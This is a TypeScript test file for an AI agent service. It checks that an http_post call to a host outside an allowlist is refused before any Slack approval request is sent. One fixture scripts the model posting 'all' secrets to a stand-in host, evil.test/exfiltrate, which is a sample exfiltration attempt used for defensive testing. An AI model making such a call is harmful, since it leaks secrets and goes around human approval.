/**
 * A tool's `check` runs before anyone is asked: an http_post to a host outside
 * HTTP_ALLOWLIST is answered with its [ToolError] at once, and neither the Slack approval message
 * nor the API's pending approvals ever show it.
 */
import { framed } from '../fakes/scripted-model'
import { exports } from 'cloudflare:workers'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { reply } from '../fakes/fake-openai'
import { API_TOKEN } from '../service/harness'
import { APPROVER, BASE, SlackWorld, blockText } from './harness'
import type { RunResult } from '../../src/kernel/trace'

const ALLOWED = { url: 'https://receiver.test/deploys/order/rollback', body: { to: 'v2.13.2' } }
const REFUSED = { url: 'https://evil.test/exfiltrate', body: { secrets: 'all' } }
const REFUSAL =
  '[ToolError] http_post: host evil.test is not in the allowlist (api.allowed.test, receiver.test); ' +
  'use one of those hosts or ask the user to allow this one. The call was not executed.'

let world: SlackWorld
beforeEach(() => {
  world = new SlackWorld()
})
afterEach(() => world.restore())

/** `GET /v1/runs/:id/trace` through the Worker. */
async function trace(runId: string): Promise<RunResult> {
  const res = await exports.default.fetch(`${BASE}/v1/runs/${runId}/trace`, {
    headers: { authorization: `Bearer ${API_TOKEN}` },
  })
  expect(res.status).toBe(200)
  return (await res.json()) as RunResult
}

describe('a call its tool’s check refuses', () => {
  it('is answered at once; the approval request shows only the call that passed', async () => {
    world.model.enqueue(
      reply.toolCalls(
        [
          { id: 'call_ok', name: 'http_post', arguments: ALLOWED },
          { id: 'call_bad', name: 'http_post', arguments: REFUSED },
        ],
        { content: 'Roll back, and report.' },
      ),
      reply.text('Rolled back; the report host is not allowed.'),
    )
    const { runId } = await world.command('roll back the order service')
    await world.settle(runId)

    const view = await world.view(runId)
    expect(view.status).toBe('awaiting_approval')
    expect(view.pendingApprovals.map((p) => [p.callId, p.args])).toEqual([['call_ok', ALLOWED]])
    const approval = world.approvalMessage()
    expect(blockText(approval)).toContain('receiver.test')
    expect(JSON.stringify(approval)).not.toContain('evil.test')

    await world.click(approval, 'approve', APPROVER)
    await world.settle(runId)
    expect(world.received.map((r) => r.url)).toEqual([ALLOWED.url])
    const calls = (await trace(runId)).steps[0]!.calls
    expect(calls.map((c) => [c.id, c.kind])).toEqual([
      ['call_ok', 'ok'],
      ['call_bad', 'tool_error'],
    ])
    expect(calls[0]!.observation).toMatch(/^HTTP 201 Created/)
    expect(calls[1]!.observation).toBe(REFUSAL)
  })

  it('alone never makes the run wait: nobody is asked', async () => {
    world.model.enqueue(
      reply.toolCalls([{ id: 'call_bad', name: 'http_post', arguments: REFUSED }]),
      reply.text('That host is not allowed.'),
    )
    const { runId } = await world.command('send the report')
    await world.settle(runId)
    const view = await world.view(runId)
    expect(view.status).toBe('succeeded')
    expect(view.pendingApprovals).toEqual([])
    expect(world.messages().filter((m) => m.text?.startsWith('Approval needed'))).toEqual([])
    expect((await trace(runId)).steps[0]!.calls[0]!.observation).toBe(REFUSAL)
    // What the model was told.
    expect(world.model.bodies[1]!.messages.at(-1)).toMatchObject({
      role: 'tool',
      tool_call_id: 'call_bad',
      content: framed('http_post', REFUSAL),
    })
  })
})
